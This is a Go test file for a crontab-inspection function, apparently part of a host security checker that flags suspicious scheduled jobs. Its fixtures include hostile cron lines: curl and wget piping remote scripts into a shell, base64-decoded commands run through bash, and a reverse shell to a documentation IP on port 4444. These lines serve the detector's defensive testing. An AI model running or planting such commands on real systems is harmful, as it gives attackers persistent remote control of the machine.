package linux

import "testing"

func TestSchedules(t *testing.T) {
	for _, c := range []struct {
		name, capture string
		want          map[string]string
	}{
		{"ordinary jobs", "-- /etc/crontab --\nSHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n-- /etc/cron.d/x --\n5 4 * * * root curl -s https://example.com/ping >/dev/null\n0 3 * * * root find /tmp/ -mtime +9 -delete; rm -rf /var/tmp/x\n" +
			"1 1 * * * root /opt/job.sh > /tmp/job.log 2>&1\n2 2 * * * root wget -q -O /srv/list https://example.com/list\n3 3 * * * root base64 -d /etc/x > /etc/y\n", map[string]string{"strange": "[]", "lines": "6"}},
		{"what comes back", "-- /var/spool/cron/crontabs/root 0600 --\n# x\n*/5 * * * * curl -fsSL http://192.0.2.9/i.sh | sh\n@reboot wget -q -O - http://192.0.2.9/i|/bin/bash\n* * * * * echo Y3VybA== | base64 -d | bash\n* * * * * /dev/shm/.x >/dev/null\n" +
			"* * * * * bash -i >& /dev/tcp/192.0.2.9/4444 0>&1\n* * * * * bash -c \"$(curl -s http://192.0.2.9)\"\n-- /etc/cron.d/y --\n@daily root bash /tmp/x.sh\n", map[string]string{
			"strange[/var/spool/cron/crontabs/root:2].kind": `"fetches and runs"`, "strange[/var/spool/cron/crontabs/root:3].kind": `"fetches and runs"`,
			"strange[/var/spool/cron/crontabs/root:4].kind": `"decodes and runs"`, "strange[/var/spool/cron/crontabs/root:5].kind": `"runs from a temporary directory"`,
			"strange[/var/spool/cron/crontabs/root:6].kind": `"opens a shell to the network"`, "strange[/var/spool/cron/crontabs/root:7].kind": `"fetches and runs"`,
			"strange[/etc/cron.d/y:1].kind": `"runs from a temporary directory"`,
		}},
		{"closed", "-- /etc/crontab !permission --\n", map[string]string{"(reason)": "permission denied"}},
		{"no cron", "", map[string]string{"lines": "0", "strange": "[]"}},
	} {
		t.Run(c.name, func(t *testing.T) { wantFacts(t, Schedules, observe(t, Schedules, c.capture), c.want) })
	}
}
